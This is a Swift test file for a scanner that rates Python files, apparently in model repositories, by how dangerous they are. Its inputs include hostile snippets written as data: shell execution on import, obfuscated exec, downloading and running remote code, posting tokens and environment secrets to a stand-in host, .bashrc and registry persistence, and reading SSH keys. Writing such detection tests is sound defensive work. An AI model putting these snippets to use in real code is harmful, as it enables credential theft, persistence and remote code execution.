import AssayCore
import ByteParsing
import Testing

@testable import Scanning

@Suite struct PythonSourceTests {
    private func scan(_ source: String, named name: String = "modeling_x.py") -> FileReport {
        FileScanner(analysers: [PythonAnalyser()]).scan(ByteRegion(Array(source.utf8)), path: name)
    }

    @Test(arguments: [
        "import os\nos.system('id')", "from os import system as s\ns('id')", "from os import *\nsystem('id')",
        "__import__('os').system('id')", "import subprocess as sp\nsp.Popen(['sh', '-c', cmd], shell=True)",
        "import os\ndef f():\n    os.popen('id')\nf()", "import os\nclass A:\n    x = os.system('id')",
        "import os\nx = f\"{os.system('id')}\"", "import os\nif True: os.system('id')",
        "import os\n(lambda: os.system('id'))()", "import os\nrun = os.system\nrun('id')",
        "import os\nclass A:\n  def __init__(self):\n    os.system('id')\na = A()",
        "import pty\npty.spawn('/bin/sh')", "import os\n@os.system\ndef f(): pass", "exec('import os; os.system(1)')",
        "eval(\"__import__('os').system('id')\")", "import sys\nsys.modules['os'].system('id')",
        "import builtins\nvars(builtins)['exec'](x)", "x = __builtins__['eval']; exec(y)",
        "try:\n    import os as z\nexcept ImportError:\n    z = None\nz.system('id')",
        "import os\nrun = os.system\nif debug:\n    run = None\nrun('id')",
        // Behind an operator, which takes the whole of what follows.
        "import os\nx = 1 + os.system('id')", "import os\nx = 'a' + os.popen('id').read()",
        "import os\nx = '%s' % os.popen('id').read()", "import os\nx = a * b - os.system('id') // 2",
        "import os\nx = f(1, 2 | os.system('id'))", "x = 'a' + eval(code) + 'b'\nimport os\ny = -os.system('id')",
        "import os\nx **= os.system('id')", "import os\nassert 0 == os.system('id')",
        "import os\nfor x[os.system('id')] in y: pass", "import os\ndef f() -> os.system('id'): pass",
        // Through what holds the function.
        "import os\nfor f in [os.system]:\n    f('id')", "import os\n{'a': os.system}['a']('id')",
        "import os\nT = {'a': os.system}\nT.get('a')('id')", "import os\nclass A:\n    go = os.system\nA.go('id')",
        "import os\nclass A:\n    __class_getitem__ = os.system\nA['id']",
        "import os\n(os.system if x else print)('id')",
        "import os\ndef g():\n    return os.system\ng()('id')", "import os, torch\ntorch.load = os.system",
        "import operator, os\noperator.attrgetter('system')(os)('id')",
        "import operator, os\noperator.methodcaller('system', 'id')(os)",
        "import os\nos.__getattribute__('system')('id')",
        "import sys\nsys.modules.get('os').system('id')",
        "().__class__.__base__.__subclasses__()[132].__init__.__globals__['system']('id')",
        "exec(')1(tnirp'[::-1])", "exec(''.join(chr(c ^ 7) for c in b'abc'))",
        "import marshal\nexec(marshal.loads(b'x'))",
    ])
    func runningCommandsOnImportIsCritical(_ source: String) {
        #expect(scan(source).severity == .critical, "\(source)")
    }

    @Test(arguments: [
        "import base64\ndef helper():\n    exec(base64.b64decode('cHJpbnQoMSk='))",
        "import base64 as b\nexec(b.b64decode(data))", "import zlib\neval(compile(zlib.decompress(x), '', 'exec'))",
        "import urllib.request as u\nexec(u.urlopen('http://a/x').read())",
        "import requests\nr = requests.get(url)\nexec(r.text)",
        "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')", "import os\ngetattr(os, ''.join(['sys', 'tem']))('id')",
        "import os\ngetattr(os, 'metsys'[::-1])('id')", "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
        "import os\ngetattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())('id')",
        "import os\ngetattr(os, chr(115) + 'ystem')('id')",
        "import marshal, base64\nexec(marshal.loads(base64.b64decode(x)))",
    ])
    func hiddenCodeIsCritical(_ source: String) {
        #expect(scan(source).severity == .critical, "\(source)")
    }

    @Test(arguments: [
        ("import os\nclass H:\n  def handle(self, x):\n    os.system('id')", Severity.high),
        ("import subprocess\ndef generate(model):\n    subprocess.run(['sh', 'x'])", .high),
        ("import os\ndef unused():\n    os.system('id')", .medium),
        ("import os\nclass H:\n  def handle(self):\n    self.go()\n  def go(self):\n    os.system('id')", .high),
        ("import os\nif __name__ == '__main__':\n    os.system('id')", .medium),
        ("import urllib.request\nurllib.request.urlopen('http://a/')", .high),
        ("import socket\ndef forward(x):\n    socket.create_connection(('a', 1))", .medium),
        ("import requests, os\ndef forward(x):\n    requests.post('http://a', data=os.environ['HF_TOKEN'])", .high),
        ("import requests, os\ndef f():\n    requests.post('http://a', json=dict(os.environ))", .high),
        ("import requests, os\ndef f():\n    requests.post('http://a', data=str(os.environ))", .high),
        ("import requests, os\ndef f():\n    requests.get('http://a/' + os.environ['AWS_SECRET_ACCESS_KEY'])", .high),
        ("import requests, os\ndef f(name):\n    requests.get('http://a/', params=os.getenv(name))", .high),
        ("import requests\nrequests.Session().get('http://a/')", .high),
        ("import httpx\nwith httpx.Client() as c:\n    c.post('http://a/', json=x)", .high),
        ("import requests\nrequests.post('http://localhost:2375/containers/create', json=x)", .high),
        ("import requests\nrequests.get('http://localhost@a/')", .high),
        ("f = open('site-packages/x.pth', 'w')", .high), ("f = open('../x.json', 'w')", .medium),
        ("f = open('x.py', 'w')", .medium), ("import pickle\npickle.load(open(p, 'rb'))", .medium),
        ("import subprocess\nsubprocess.run('git status; id', shell=True)", .critical),
        ("import subprocess\nsubprocess.run(['git', '-c', 'core.pager=sh', 'status'])", .medium),
        ("import ctypes\nctypes.CDLL('./a.so')", .high), ("import shutil\nshutil.rmtree('/data')", .high),
        ("open('/home/u/.bashrc', 'a').write('x')", .high),
        ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')", .high),
        ("from pathlib import Path\n(Path.home() / '.bashrc').write_text('x')", .high),
        (
            "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')",
            .high
        ),
        (
            "import os\nclass A:\n  def __init__(self):\n    self.f = os.system\n  def x(self):\n    self.f('id')",
            .medium
        ), ("def f():\n    open('/root/.ssh/id_rsa').read()", .medium),
        ("import os\nclass A:\n  def __reduce__(self):\n    return (os.system, ('id',))", .high),
        ("import atexit, os\natexit.register(os.system, 'id')", .critical),
        ("import timeit\ntimeit.timeit('import os; os.system(1)')", .critical),
        ("import platform\nplatform.popen('id')", .critical),
        ("import socket\nsocket.create_connection(('a', 1))", .high),
        ("import ctypes\nctypes.memmove(1, b'x', 1)", .high),
        ("import os\nif __name__ != '__main__':\n    os.system('id')", .critical),
        ("import os\nif __name__ == '__main__':\n    x = 1\nelse:\n    os.system('id')", .critical),
        ("import os\nif __name__ == '__main__' or True:\n    os.system('id')", .critical),
        ("import os\nif not __name__ == '__main__':\n    os.system('id')", .critical),
        ("import os\n__name__ = '__main__'\nif __name__ == '__main__':\n    os.system('id')", .critical),
        ("import os\ndef f():\n    os.system('id')\nif __name__ == '__main__':\n    f()", .medium),
        ("import os\ndef f():\n    os.system('id')\nif __name__ == '__main__':\n    f()\nf()", .critical),
    ])
    func theTimeOfTheCallGradesIt(_ source: String, _ expected: Severity) {
        #expect(scan(source).severity == expected, "\(source)")
    }

    @Test(arguments: [
        "import torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\n\nclass M(PreTrainedModel):\n"
            + "    def __init__(self, config):\n        super().__init__(config)\n        self.l = nn.Linear(2, 2)\n"
            + "    def forward(self, x):\n        return self.l(x)\n",
        "import os, json\nclass T:\n  def __init__(self, path):\n    with open(os.path.join(path, 'vocab.json')) as f:\n"
            + "      self.v = json.load(f)\n  def save(self, d):\n    with open(d, 'w') as f: f.write('x')\n",
        "import torch\nsd = torch.load('x.bin', weights_only=True)\n@torch.jit.script\ndef gelu(x): return x\n",
        "import importlib\ndef get(name):\n    return importlib.import_module(name)\n",
        "from setuptools import setup, find_packages\nsetup(name='x', packages=find_packages(),\n"
            + "  long_description=open('README.md').read())\n",
        "import requests\nfrom PIL import Image\ndef load_image(url):\n    return Image.open(requests.get(url, stream=True).raw)\n",
        "import re\nimport logging\nlogger = logging.getLogger(__name__)\nP = re.compile('a')\nx = P.sub('a', 'b')\n",
        "import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\nTOKEN = os.environ.get('HF_TOKEN')\n",
        // What programs do that train and serve models.
        "import pickle\nm = pickle.load(open('model.pkl', 'rb'))\n",
        "import joblib, os\nwith open(os.path.join(os.path.dirname(__file__), 'm.joblib'), 'rb') as f:\n    m = joblib.load(f)\n",
        "import pickle\nwith open('out/model.pkl', 'wb') as f:\n    pickle.dump(m, f)\n",
        "import yaml\nc = yaml.load(open('c.yaml'), Loader=yaml.FullLoader)\n",
        "import subprocess\nrev = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n",
        "import subprocess\nrev = subprocess.check_output('git rev-parse --short HEAD', shell=True)\n",
        "from setuptools.extension import Extension\ne = Extension('parallel_sum')\n",
        "import httpx\nclient = httpx.Client(limits=httpx.Limits(max_connections=9))\n",
        "import requests\nrequests.post('http://127.0.0.1:5000/predict', json={'x': 1})\n",
        "import cloudpickle\nenv = {'cloudpickle': cloudpickle.__version__}\nprint(f(cloudpickle.__version__))\n",
        // Clients take their settings and what they identify themselves with from the environment.
        "import os, requests\nURL = os.getenv('API_URL')\ndef ask(x):\n    return requests.post(URL, json=x)\n",
        "import os, requests\nT = int(os.getenv('TIMEOUT', '3'))\ndef ask(x):\n    return requests.get(x, timeout=T)\n",
        "import os, requests\nH = {'Authorization': 'Bearer ' + os.environ['API_TOKEN']}\n"
            + "def ask(x):\n    return requests.post('https://a', json=x, headers=H)\n",
        "import torch\nmodel = torch.compile(model)\nmodel.eval()\nmodel.exec()\ntorch.manual_seed(0)\n",
        "import requests\ndef fetch(url, path):\n  with open(path, 'wb') as f:\n    f.write(requests.get(url).content)\n"
            + "def main():\n  fetch('https://example.org/x', 'x')\nif __name__ == '__main__':\n  main()\n",
        "import ctypes\nclass P(ctypes.Structure):\n  _fields_ = [('a', ctypes.c_int)]\nT = ctypes.POINTER(ctypes.c_char)\n"
            + "n = ctypes.sizeof(P)\n",
        "from ctypes import *\ndef forward(self, x):\n  return zip(range(len(x)), [int(y) for y in sorted(x)])\n",
        "import platform, socket, uuid, timeit\nBITS = platform.architecture()\nHOST = socket.gethostname()\n"
            + "ID = uuid.uuid4()\nF = socket.AF_INET\nM = __import__('transformers')\nt = timeit.timeit(lambda: 1)\n",
        "from setuptools.command.build_ext import build_ext\nclass B(build_ext):\n  def run(self):\n"
            + "    build_ext.run(self)\n",
        "def write(path):\n  open(path, 'w').write('x')\nif '__main__' == (__name__) and path: write(path)\n",
    ])
    func ordinaryModelCodeStaysBelowMedium(_ source: String) {
        let report = scan(source)
        #expect(report.severity < .medium, "\(report.findings.map(\.message))")
        #expect(report.format == "python")
    }

    @Test(arguments: [
        "# A model\n\nThis model was made to import nothing.\n\n```python\nimport os\nos.system('id')\n```\n",
        "import is a word\nand so is def f\n", "{\"a\": \"import os\"}", "name: x\nsteps:\n  - run: import y\n",
        "the\nimport\nof\nclass \n", "{% import 'x' %}{{ def }}", "public class A { int x; }\nimport java.util.List;\n",
    ])
    func otherTextIsNotPython(_ text: String) {
        #expect(scan(text, named: "README.md").format == "unknown")
    }

    @Test(arguments: [
        ("# -*- coding: utf-7 -*-\nimport os\n", Severity.high),
        ("#!/usr/bin/python\n# coding=rot13\nvzcbeg bf\n", .high),
        ("# -*- coding: utf-8 -*-\nimport os\n", .none), ("\u{feff}# coding: latin-1\nx = 1\n", .none),
        ("import os\0\nos.system('id')\n", .critical), ("This is no program at all", .low), ("", .none),
    ])
    func whatIsNamedPythonIsReadAsIt(_ source: String, _ expected: Severity) {
        #expect(scan(source, named: "a.py").severity == expected)
    }

    @Test func sourceIsKnownByItsContent() {
        #expect(scan("import os\nos.system('id')\n", named: "weights").severity == .critical)
        #expect(scan("exec(open('x').read())", named: "x.py").severity >= .medium)
    }

    @Test func deepAndBrokenSourcesEnd() {
        #expect(scan("import os\nx = " + String(repeating: "(", count: 5000) + "1").outcome == .incomplete)
        #expect(scan("import os\n" + String(repeating: "[f'{", count: 2000)).outcome != .error)
        let source =
            "import os, base64 as b\n@d\nclass A(B):\n  def f(self, *a, k=1):\n    x, y = (1, 2)\n    z[1:] = g(f'{x}')\n"
        let bytes = Array(source.utf8)
        for index in bytes.indices {
            for value: UInt8 in [0x28, 0x29, 0x3a, 0x0a, 0x22] {
                var changed = bytes
                changed[index] = value
                PythonSourceJudge.judge(ByteRegion(changed), at: Location(), in: Scan())
            }
        }
    }

    @Test(arguments: [
        ("y = ops.aten.from_file(\"/etc/x\", False, 1)", Severity.medium), ("torch.save(y, \"/tmp/x\")", .medium),
        ("y = ops.mylib.run(x)", .medium), ("y = torch.add(x, x)", .none), ("y = ops.prim.data(x)", .none),
    ])
    func torchScriptIsJudgedByItsOperators(_ line: String, _ expected: Severity) {
        let source =
            "class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    \(line)\n    return x\n"
        #expect(scan(source, named: "__torch__.py").severity == expected)
    }

    /// Tables of constants are left out, what stands in them or behind them is not.
    @Test func aTableOfConstantsHidesNothing() {
        let table = String(repeating: "[1, 'a', {2: None}], ", count: 20_000)
        let plain = scan("data = [\n\(table)\(table)\(table)]\nx = 1\n", named: "data.py")
        #expect(plain.outcome == .clean)
        let inside = scan("import os\ndata = [\n\(table)(3, os.system('id')), \(table)]\n")
        #expect(inside.severity == .critical)
        let behind = scan("import os\ndata = [\(table)]\nos.system('id')\n")
        #expect(behind.severity == .critical)
        #expect(behind.findings.first?.location.detail == "line 3")
    }

    /// A text that is put together of more constants than are kept is not taken for one that is known.
    @Test func aPartOfATextIsNotTakenForTheWhole() {
        let letters = String(repeating: "'#', ", count: 10_000)
        let report = scan("def f():\n    exec(''.join([\(letters)'\\nimport os']))\n")
        #expect(report.severity >= .medium)
    }
}
